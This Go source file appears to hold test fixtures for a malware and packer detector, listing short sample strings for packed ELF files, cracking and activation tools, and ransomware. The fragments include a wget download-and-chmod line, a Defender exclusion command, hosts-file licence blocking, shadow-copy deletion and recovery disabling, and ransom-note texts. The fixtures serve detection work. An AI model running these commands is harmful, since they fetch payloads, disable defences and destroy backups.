package starter

var packedSamples = map[string]sample{
	"packed_elf_upx_broken":                {elfTwoRX, "PROT_EXEC|PROT_¦WRITE failed."},
	"packed_elf_upx_device":                {elfMIPS, "UP¦X!\nUP¦X!\n$Info: This file is packed with the UPX¦ executable packer"},
	"packed_elf_single_rwx_segment":        {elfOneRWX, "x"},
	"packed_elf_entropy_no_sections":       {elfNoise, "x"},
	"packed_elf_entry_in_writable_segment": {elfTwoRWX, "«x*16»"},
	"packed_elf_stripped_downloader":       {elfTwoRX, "cd /tmp; wget http://«1.*3»1/x;¦ chmod 777 x"},
	"packed_elf_shc_script":                {elf, "E: neither argv[0]¦ nor $_ works.\n=%lu %d\n%lu %d%c"},
	"packed_elf_pyinstaller_miner":         {elf, "hex 4D45490C0B0A0B0E\n_MEI¦PASS2\nxmr¦ig\nxmr¦ig"},
	"packed_script_elf_tail":               {sh, "tail -n +3¦ $0 > /tmp/x; chmod +¦x /tmp/x\n\x7fE¦LF\x02\x01\x01"},
}

var keygenSamples = map[string]sample{
	"keygen_kms_activator":          {pe, "KMS¦Auto\nRati¦borus\nslm¦gr.vbs"},
	"keygen_kms_script":             {raw, "@echo off\nslmgr /i¦pk X\nslmgr /s¦kms kms8.msgui¦des.com\nslmgr /a¦to\n"},
	"keygen_tracker_music":          {pe, "Extended Mod¦ule: x\nKey¦gen\nSerial ¦Number: \nGenerate"},
	"keygen_universal_patcher":      {pe, "diablo2oo2's Univ¦ersal Patcher\nCreate Back¦up"},
	"keygen_adobe_patcher":          {pe, "AMT Emu¦lator\namt¦lib.dll"},
	"keygen_hosts_block":            {raw, "@echo off\necho 127.0.0.1 lm¦licenses.wip4.adobe.com >> %windir%\\system32\\drivers¦\\etc\\hosts\necho 127.0.0.1 act¦ivate.adobe.com >> h\n"},
	"keygen_windows_loader":         {pe, "Windows Loa¦der\nSL¦IC\ngrl¦dr"},
	"keygen_activator_defender_off": {pe, "Add-MpPref¦erence -ExclusionPath C:\nKMSp¦ico"},
}

var ransomSamples = map[string]sample{
	"ransom_note_onion":              {raw, "All your files have been ¦encrypted.\nUse Tor ¦Browser to open «abcdefg2*7».oni¦on and pay to decr¦ypt your files.\n"},
	"ransom_note_bitcoin":            {raw, "All your files have been ¦encrypted. Send 0.1 B¦TC to bc1q¦«abcd2345*4» to decr¦ypt.\n"},
	"ransom_note_mail_contact":       {raw, "All your files have been ¦encrypted. Write to someone@proton¦mail.com. We decrypt one file for fr¦ee. Do not re¦name files.\n"},
	"ransom_note_lockbit":            {raw, "~~~ Lock¦Bit 3.0 the world's fast¦est and most stable ransomware ~~~\nDecrypt¦ion ID\n"},
	"ransom_note_conti":              {raw, "All of your files are currently encrypted by CON¦TI strain.\n---BEGIN¦ ID---\n"},
	"ransom_note_revil":              {raw, "---=== Welcome.¦ Again. ===---\n[+] Whats Hap¦pen? [+]\n[+] What guaran¦tees? [+]\n"},
	"ransom_note_blackcat":           {raw, ">> What hap¦pened?\nSensitive data on your system was DOWN¦LOADED.\n>> CAU¦TION\n"},
	"ransom_wannacry":                {pe, "Ooops, your files have been enc¦rypted!\n@WanaDec¦ryptor@\ntask¦se.exe"},
	"ransom_note_djvu":               {raw, "ATTEN¦TION!\nDon't worry, you can return all your¦ files!\nencrypted with strongest encry¦ption and unique key.\nDiscount 50% available if you con¦tact us first 72 hours\n"},
	"ransom_note_phobos_dharma":      {raw, "All your files have been ¦encrypted!\ndue to a security problem with ¦your PC. If you want to restore them\nWrite this ID in the ¦title of your message\nHow to obtain Bit¦coins\n"},
	"ransom_note_akira":              {raw, "Whatever who you are and what your¦ title is\nall your backups - virt¦ual, physical\n"},
	"ransom_note_blackbasta":         {raw, "Your data are stolen and ¦encrypted\nThe data will be published on TOR web¦site if you do not pay the ransom\n"},
	"ransom_note_esxi":               {raw, "How To Restore Your¦ Files\nWe use strong encryption algo¦rithms, so you cannot\n"},
	"ransom_note_nas":                {raw, "<html>WARNING: Your files have been locked by Dead¦Bolt. IMPORTANT MESSAGE FOR ¦QNAP</html>"},
	"ransom_note_database":           {raw, "All your data is back¦ed up. You must pay 0.01 ¦BTC to X. In 48 ho¦urs it is public. After pay¦ing, after that send code.\n"},
	"ransom_esxi_locker_elf":         {elf, "esxcli ¦vm process list\n.vm¦dk\nHow to Rest¦ore.txt\nencr¦ypt"},
	"ransom_recovery_inhibit_pe":     {pe, "vssadmin del¦ete shadows /all\nwmic shadow¦copy delete\nbcdedit /set x recovery¦enabled no"},
	"ransom_recovery_inhibit_script": {raw, "@echo off\nvssadmin del¦ete shadows /all\nwmic shadow¦copy delete\nbcdedit /set x recovery¦enabled no\n"},
}
